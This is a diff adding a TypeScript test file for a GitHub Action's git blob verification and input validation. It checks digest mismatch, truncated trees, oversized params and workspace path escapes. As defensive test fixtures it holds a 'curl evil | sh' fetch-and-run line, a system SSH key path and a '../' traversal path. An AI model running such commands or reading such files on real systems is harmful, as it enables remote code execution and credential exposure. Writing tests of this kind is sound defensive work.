@@ -1,0 +1,87 @@
+import { describe, expect, it } from 'vitest';
+import { gitBlobId, RestGitSource, type GitHubApi } from '../../src/adapters/github-api.ts';
+import { readActionSettings } from '../../src/action/settings.ts';
+import { TrustError, UsageError } from '../../src/errors.ts';
+
+// A stand-in for our own narrow GitHubApi interface (not for GitHub): only the git reads are used.
+function api(blobs: Record<string, Buffer>, truncated = false): GitHubApi {
+  const unused = () => Promise.reject(new Error('not used'));
+  return {
+    tryGetRef: async () => ({ type: 'commit', sha: 'c'.repeat(40) }),
+    getTag: unused,
+    getCommitTree: async () => 't'.repeat(40),
+    getTree: async () => ({
+      truncated,
+      entries: Object.keys(blobs).map((sha, i) => ({
+        path: `remediations/svc/f${i}`,
+        mode: '100644',
+        type: 'blob',
+        sha,
+      })),
+    }),
+    getBlob: async (sha) => blobs[sha]!,
+    tryGetReleaseByTag: unused,
+    listReleases: unused,
+    downloadAsset: unused,
+    createRelease: unused,
+    uploadAsset: unused,
+    publishRelease: unused,
+  };
+}
+
+async function codeOf(promise: Promise<unknown>): Promise<string | undefined> {
+  try {
+    await promise;
+  } catch (error) {
+    if (error instanceof TrustError || error instanceof UsageError) return error.code;
+    throw error;
+  }
+  return undefined;
+}
+
+describe('RestGitSource', () => {
+  it('accepts blobs whose bytes hash to their object id (git blob hash, as `git hash-object`)', async () => {
+    const content = Buffer.from('hello\n');
+    const oid = gitBlobId(content, 40);
+    expect(oid).toBe('ce013625030ba8dba906f756967f9e9ca394464a'); // git hash-object of "hello\n"
+    const source = new RestGitSource(api({ [oid]: content }));
+    expect((await source.readBlobs([oid])).get(oid)).toEqual(content);
+  });
+
+  it('refuses content that does not hash to the requested object id (a substituted answer)', async () => {
+    const oid = gitBlobId(Buffer.from('reviewed\n'), 40);
+    const source = new RestGitSource(api({ [oid]: Buffer.from('curl evil | sh\n') }));
+    expect(await codeOf(source.readBlobs([oid]))).toBe('DIGEST_MISMATCH');
+  });
+
+  it('refuses a truncated tree listing, which could leave files out of the digest', async () => {
+    const source = new RestGitSource(api({ [gitBlobId(Buffer.from('x'), 40)]: Buffer.from('x') }, true));
+    expect(await codeOf(source.listTree('c'.repeat(40), 'remediations/svc'))).toBe('UNSAFE_TREE');
+  });
+});
+
+describe('readActionSettings', () => {
+  const env = { GITHUB_WORKSPACE: '/ws', RUNNER_TEMP: '/tmp/rt', GITHUB_REPOSITORY: 'o/r', GITHUB_RUN_ID: '1' };
+  const inputs = (extra: Record<string, string>) => (name: string) =>
+    ({ remediation: 'svc@v1.0.0', 'trusted-keys': 'keys/k.pub', ...extra })[name] ?? '';
+
+  it('refuses a params payload over 64 KB before parsing it', () => {
+    const huge = JSON.stringify({ big: 'x'.repeat(70_000) });
+    expect(() => readActionSettings(inputs({ params: huge }), env)).toThrow(/at most 65536/);
+  });
+
+  it('refuses key and manifest paths outside the workspace', () => {
+    expect(() => readActionSettings(inputs({ 'trusted-keys': '/etc/ssh/ssh_host_ed25519_key.pub' }), env)).toThrow(
+      /inside the workspace/,
+    );
+    expect(() => readActionSettings(inputs({ manifest: '../other/manifest.json' }), env)).toThrow(
+      /inside the workspace/,
+    );
+  });
+
+  it('normalises the record suffix to characters valid in artifact names and tags', () => {
+    expect(readActionSettings(inputs({ 'record-suffix': 'web-1.example.com:8080/..x' }), env).recordSuffix).toBe(
+      'web-1.example.com-8080-.x',
+    );
+  });
+});
